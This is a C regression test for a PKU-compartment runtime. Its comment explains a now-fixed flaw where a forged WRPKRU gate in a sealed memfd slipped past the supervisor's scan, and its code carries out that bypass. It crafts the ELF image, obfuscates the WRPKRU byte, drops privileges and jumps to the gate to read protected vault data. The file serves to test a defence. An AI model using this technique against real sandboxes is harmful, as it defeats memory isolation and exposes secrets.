// The supervisor's scan of new executable file mappings
// (runtime/supervisor-exec.c) accepts a WRPKRU when it has the shape of a
// checked gate (mov W(%rip),%eax; WRPKRU; cmp W(%rip),%eax; je; ud2) and
// the file's own .bulkhead.gates lists it. A checked gate is safe only
// because its word W holds a PKRU value the attacker cannot choose; in a
// file the attacker wrote, W is the attacker's too. The rule against files
// the process could change lets a memfd sealed with F_SEAL_WRITE through
// ("a JIT's way in"), and the default domain can make one: memfd_create,
// write a small ELF file whose code is such a gate with W = 0 (every key
// open), whose program header maps it and whose .bulkhead.gates lists the
// WRPKRU, seal it, mmap it PROT_READ|PROT_EXEC. The scan finds the WRPKRU,
// finds it shaped and listed, and lets the mapping be made; a jump to the
// gate opens every key, and the vault's page reads. Found in the third
// review of the default domain's program counter (attacker model B);
// reproduced in the QEMU guest (6.1, as root and as uid 65534).
//
// Fixed: after start-up the supervisor accepts no WRPKRU in a new
// executable mapping, gate or not (compartments in dlopen'd objects are
// not supported yet: docs/shared-objects.md; bulkhead-clang writes the
// gates of a -shared link as traps, so no honest library holds one). The
// child dies at its mmap.
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -fno-pkey-syscall-filter -O2 %s -o %t.off
// RUN: %run %t.off | FileCheck %s --check-prefix=OFF
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on
// RUN: %run %t.on | FileCheck %s --check-prefix=ON
// OFF: == memfd-unlisted
// OFF-NEXT: mapped
// OFF-NEXT: ATTACK SUCCEEDED
// OFF: == memfd-gate
// OFF-NEXT: mapped
// OFF-NEXT: ATTACK SUCCEEDED: a forged gate in a sealed memfd read "vault-secret
// ON-NOT: ATTACK SUCCEEDED
// ON: memfd-unlisted: stopped by signal 9
// ON: memfd-gate: stopped by signal 9
// ON: parent's vault intact: 1
#include "Inputs/target.h"
#include <elf.h>
#include <grp.h>

#ifndef F_ADD_SEALS
#define F_ADD_SEALS 1033
#define F_SEAL_SHRINK 0x0002
#define F_SEAL_GROW 0x0004
#define F_SEAL_WRITE 0x0008
#endif

/* Not a WRPKRU in this program's own bytes (the link-time scan would
 * refuse it): the last byte is made at run time. */
static volatile unsigned char flip = 0x10;

enum { CODE = 0x200, STRS = 0x300, GATES = 0x340, SHDRS = 0x400, SIZE = 0x1000 };

static void build(unsigned char *img, int listed) {
  memset(img, 0, SIZE);
  Elf64_Ehdr *eh = (Elf64_Ehdr *)img;
  memcpy(eh->e_ident, ELFMAG, SELFMAG);
  eh->e_ident[EI_CLASS] = ELFCLASS64;
  eh->e_ident[EI_DATA] = ELFDATA2LSB;
  eh->e_ident[EI_VERSION] = EV_CURRENT;
  eh->e_type = ET_DYN;
  eh->e_machine = EM_X86_64;
  eh->e_version = EV_CURRENT;
  eh->e_phoff = sizeof *eh;
  eh->e_shoff = SHDRS;
  eh->e_ehsize = sizeof *eh;
  eh->e_phentsize = sizeof(Elf64_Phdr);
  eh->e_phnum = 1;
  eh->e_shentsize = sizeof(Elf64_Shdr);
  eh->e_shnum = 3;
  eh->e_shstrndx = 1;
  Elf64_Phdr *ph = (Elf64_Phdr *)(img + eh->e_phoff);
  ph->p_type = PT_LOAD;
  ph->p_flags = PF_R | PF_X;
  ph->p_filesz = ph->p_memsz = SIZE;
  ph->p_align = 4096;
  /* xor ecx,ecx; xor edx,edx; mov W(%rip),%eax; WRPKRU; cmp W(%rip),%eax;
   * je +2; ud2; ret -- W (at CODE + 0x20) is 0: every key open. */
  static const unsigned char code[] = {0x31, 0xc9, 0x31, 0xd2, 0x8b, 0x05, 0x16, 0, 0, 0,
                                       0x0f, 0x01, 0xff, 0x3b, 0x05, 0x0d, 0,    0, 0, 0x74,
                                       0x02, 0x0f, 0x0b, 0xc3};
  memcpy(img + CODE, code, sizeof code);
  img[CODE + 12] ^= flip; /* 0xff ^ 0x10 */
  static const char strs[] = "\0.shstrtab\0.bulkhead.gates";
  memcpy(img + STRS, strs, sizeof strs);
  uint64_t gate = listed ? CODE + 10 : CODE; /* the WRPKRU's address (p_vaddr 0) */
  memcpy(img + GATES, &gate, 8);
  Elf64_Shdr *sh = (Elf64_Shdr *)(img + SHDRS);
  sh[1].sh_name = 1, sh[1].sh_type = SHT_STRTAB, sh[1].sh_offset = STRS;
  sh[1].sh_size = sizeof strs;
  sh[2].sh_name = 11, sh[2].sh_type = SHT_PROGBITS, sh[2].sh_offset = GATES;
  sh[2].sh_size = 8, sh[2].sh_addr = GATES;
}

/* As nobody: the hole needs no privilege (root passes the rule against
 * changeable files anyway). listed = 0: the control, the same file whose
 * manifest names no gate, which the scan refuses. */
static void attack(int listed) {
  static unsigned char img[SIZE];
  if (getuid() == 0 && (setgroups(0, NULL) || setresgid(65534, 65534, 65534) ||
                        setresuid(65534, 65534, 65534))) {
    printf("setup: %s\n", strerror(errno));
    return;
  }
  build(img, listed);
  int fd = memfd_create("jit", MFD_CLOEXEC | MFD_ALLOW_SEALING);
  if (fd < 0 || write(fd, img, SIZE) != SIZE ||
      fcntl(fd, F_ADD_SEALS, F_SEAL_WRITE | F_SEAL_SHRINK | F_SEAL_GROW)) {
    report_read("a forged gate in a sealed memfd", NULL);
    return;
  }
  unsigned char *m = mmap(NULL, SIZE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
  if (m == MAP_FAILED) {
    report_read("a forged gate in a sealed memfd", NULL);
    return;
  }
  printf("mapped\n");
  fflush(stdout);
  /* The jump an attacker with the program counter makes, and the copy in
   * the same breath (a C call would have its rights put back after it). */
  static char out[48];
  __asm__ volatile("call *%0\n\t"
                   "movq %1, %%rsi\n\tmovq %2, %%rdi\n\tmovl $40, %%ecx\n\trep movsb"
                   :
                   : "r"(m + CODE), "r"(vault_data), "r"(out)
                   : "rax", "rcx", "rdx", "rsi", "rdi", "memory");
  report_read("a forged gate in a sealed memfd", out);
}

static void memfd_gate(void) { attack(1); }
static void memfd_unlisted(void) { attack(0); }

int main(void) {
  struct attack a[] = {{"memfd-unlisted", memfd_unlisted}, {"memfd-gate", memfd_gate}};
  return run_attacks(a, 2);
}
